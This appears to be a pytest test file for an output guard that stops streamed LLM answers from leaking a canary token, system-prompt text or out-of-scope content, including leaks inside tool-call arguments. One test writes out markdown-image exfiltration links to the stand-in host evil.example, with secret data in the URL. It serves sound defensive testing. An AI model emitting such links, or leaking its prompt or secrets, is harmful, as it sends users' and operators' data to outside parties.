"""A stream is stopped before what must not leave has begun to leave, wherever the chunks are cut."""

from __future__ import annotations

import random
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessageChunk
from langchain_core.runnables import RunnableGenerator, RunnableLambda
from pydantic import BaseModel

from langchain_prodkit.errors import OutputError
from langchain_prodkit.guard import Canary, ScopeGuard, scoped_prompt
from tests.unit_tests.guard.forgeries import DISGUISES, disguised

CANARY = Canary("qzkvwxytrplmabcdefgh")
SYSTEM = scoped_prompt("You answer questions about train tickets of Graz Rail.", canary=CANARY)
PROSE = "The fare from Graz to Vienna is 39 euros, and refunds of tickets take two weeks at most. "
REFUSAL = "I'm sorry, I can't help with that."
CODE = "Here is a Python script: import requests, def main(): return a function, class, print, program. "
# Disguises that fit into what is held back.
SHORT = sorted(set(DISGUISES) - {"binary"})


def pieces(text: str, rng: random.Random, longest: int = 12) -> Iterator[str]:
    """Cut a text as a model would."""
    at = 0
    while at < len(text):
        size = rng.randint(1, longest)
        yield text[at : at + size]
        at += size


def streamed(guard: ScopeGuard, text: str, seed: int = 1) -> str:
    """Give what leaves of a text that comes in pieces."""
    return "".join(guard.transform(pieces(text, random.Random(seed))))


@settings(max_examples=40, deadline=None, derandomize=True)
@given(st.integers(0, 10_000), st.integers(0, 2_000), st.sampled_from([64, 200, 400]))
def test_a_good_answer_arrives_whole(seed: int, size: int, hold: int) -> None:
    """However it is cut; nothing is lost, doubled or reordered."""
    text = (PROSE * 30)[:size]
    guard = ScopeGuard(SYSTEM, canary=CANARY, hold_chars=hold)
    assert streamed(guard, text, seed) == text


@pytest.mark.parametrize("name", SHORT)
def test_a_leak_never_begins_to_leave(name: str) -> None:
    """In the middle of a long answer, in every disguise; what came before it has left or not, no more."""
    rng = random.Random(4)
    leak = disguised(name, CANARY.token, rng)
    guard = ScopeGuard(canary=CANARY, on_violation="replace")
    text = f"{PROSE * 9}{leak}\n{PROSE * 9}"
    left = streamed(guard, text, seed=8)
    assert left.endswith(REFUSAL)
    assert (PROSE * 9).startswith(left.removesuffix(REFUSAL).rstrip())
    with pytest.raises(OutputError):
        streamed(ScopeGuard(canary=CANARY), text)


def test_the_wording_of_the_prompt_does_not_leave() -> None:
    """Not its first sentence either."""
    left = streamed(ScopeGuard(SYSTEM, on_violation="replace"), f"{PROSE * 9}{SYSTEM.text}")
    assert str(SYSTEM.content)[:60] not in left
    assert left.endswith(REFUSAL)


def test_a_picture_is_cut_out_and_the_answer_goes_on() -> None:
    """Even when its address is longer than anything that is held, or comes later."""
    guard = ScopeGuard(on_violation="replace", hold_chars=100)
    picture = "![x](https://evil.example/?d=secret)"
    assert streamed(guard, f"{PROSE * 5}{picture} {PROSE * 5}") == f"{PROSE * 5}[link removed] {PROSE * 5}"
    long = f"![x](https://evil.example/?d={'a1B2' * 200})"
    left = streamed(guard, f"{PROSE * 5}{long} {PROSE * 5}")
    assert "evil" not in left
    late = f"{PROSE * 5}![x][pic] {PROSE * 5}\n\n[pic]: https://evil.example/x.png\n\nBye."
    left = streamed(guard, late)
    assert "evil" not in left
    assert left.endswith("Bye.")
    with pytest.raises(OutputError):
        streamed(ScopeGuard(), f"{PROSE * 5}{picture}")


def test_an_allowed_link_is_not_taken_for_another_while_it_is_written() -> None:
    """Half a host name is not judged."""
    guard = ScopeGuard(allowed_hosts=["img.graz.example"])
    text = f"{PROSE}![plan](https://img.graz.example/plan.png?line=7) {PROSE}" * 5
    for seed in range(10):
        assert streamed(guard, text, seed) == text


def test_a_stream_that_leaves_its_scope_is_stopped() -> None:
    """The window that left it stays here."""
    guard = ScopeGuard(SYSTEM, on_violation="replace", window_chars=200, hold_chars=100)
    left = streamed(guard, PROSE * 10 + CODE * 10)
    assert "Python" not in left
    assert "39 euros" in left
    assert left.endswith(REFUSAL)


async def test_message_chunks_keep_ids_and_metadata() -> None:
    """A stream of messages adds up to the same message, sync and async."""
    rng = random.Random(2)
    chunks = [AIMessageChunk(content=piece, id="run-1") for piece in pieces(PROSE * 8, rng)]
    usage = {"input_tokens": 3, "output_tokens": 4, "total_tokens": 7}
    chunks.append(AIMessageChunk(content="", id="run-1", usage_metadata=usage, chunk_position="last"))
    total = chunks[0]
    for chunk in chunks[1:]:
        total += chunk

    async def source() -> AsyncIterator[Any]:
        for chunk in chunks:
            yield chunk

    guard = ScopeGuard(SYSTEM, canary=CANARY)
    for left in (list(guard.transform(iter(chunks))), [c async for c in guard.atransform(source())]):
        assert len(left) > 20
        summed = left[0]
        for chunk in left[1:]:
            summed += chunk
        assert (summed.content, summed.id, summed.usage_metadata) == (total.content, total.id, usage)


def test_arguments_of_tool_calls_are_watched() -> None:
    """A secret on its way to a tool comes in pieces, too."""
    arguments = f'{{"body": "{CANARY.token}"}}'
    chunks = [
        AIMessageChunk(
            content="",
            tool_call_chunks=[
                {"name": None, "args": part, "id": None, "index": 0, "type": "tool_call_chunk"}
            ],
        )
        for part in pieces(arguments, random.Random(1), 4)
    ]
    with pytest.raises(OutputError):
        list(ScopeGuard(canary=CANARY).transform(iter(chunks)))


def test_flag_holds_nothing_back_and_says_so_at_the_end() -> None:
    """Each chunk leaves as it comes."""
    pulled: list[int] = []

    def source() -> Iterator[AIMessageChunk]:
        for number, part in enumerate([PROSE, CANARY.token, PROSE]):
            pulled.append(number)
            yield AIMessageChunk(content=part)

    stream = ScopeGuard(canary=CANARY, on_violation="flag").transform(source())
    assert next(stream).content == PROSE
    assert pulled == [0]
    rest = list(stream)
    assert rest[-1].response_metadata["prodkit_output"]["reasons"] == ["canary"]


def test_text_leaves_while_more_comes() -> None:
    """No more than `hold_chars` and a chunk or two wait."""
    pulled = 0

    def source() -> Iterator[str]:
        nonlocal pulled
        for piece in pieces(PROSE * 50, random.Random(3)):
            pulled += len(piece)
            yield piece

    left = 0
    for chunk in ScopeGuard(canary=CANARY, hold_chars=200).transform(source()):
        left += len(chunk)
        assert pulled - left <= 200 + 200 // 4 + 24


class Growing(BaseModel):
    """An object that a parser streams."""

    text: str


def test_objects_wait_for_the_end() -> None:
    """Of snapshots the last counts, and it is judged."""
    guard = ScopeGuard(SYSTEM, canary=CANARY, on_violation="replace")
    fine = [Growing(text=PROSE[:size]) for size in (10, 40, len(PROSE))]
    assert list(guard.transform(iter(fine))) == [fine[-1]]
    leaking = [*fine, Growing(text=CANARY.token)]
    assert list(guard.transform(iter(leaking))) == [Growing(text=REFUSAL)]


async def test_a_stopped_stream_closes_what_is_above_it() -> None:
    """A model that nobody listens to any more is told so."""
    closed: list[str] = []

    async def endless(_: Any) -> AsyncIterator[str]:
        try:
            yield CANARY.token
            while True:
                yield PROSE
        finally:
            closed.append("model")

    def never(_: Any) -> Iterator[str]:
        yield ""

    chain = RunnableLambda(lambda text: text) | RunnableGenerator(never, endless)
    guarded = chain | ScopeGuard(canary=CANARY, on_violation="replace")
    assert "".join([chunk async for chunk in guarded.astream("go")]) == REFUSAL
    assert closed == ["model"]
